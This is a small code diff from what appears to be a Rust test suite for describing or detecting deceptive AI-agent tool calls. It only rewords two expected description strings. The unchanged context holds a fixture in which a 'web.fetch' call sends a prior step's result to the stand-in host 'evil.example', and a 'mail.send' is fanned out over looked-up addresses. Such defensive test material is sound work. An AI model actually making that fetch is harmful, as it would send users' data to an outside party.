@@ -399,7 +399,7 @@ fn late_values() -> Vec<Deception> {
                 "web.fetch",
                 &[
                     "https://evil.example/?d=‹result of step look›",
-                    "leaves this machine",
+                    "to another machine",
                 ],
             ),
         ),
@@ -430,7 +430,7 @@ fn late_values() -> Vec<Deception> {
                 "mail.send",
                 &[
                     "for each element of ‹list of step look›",
-                    "only known later",
+                    "number is not known yet",
                     "to: ‹mail of one element of list of step look›",
                 ],
             ),
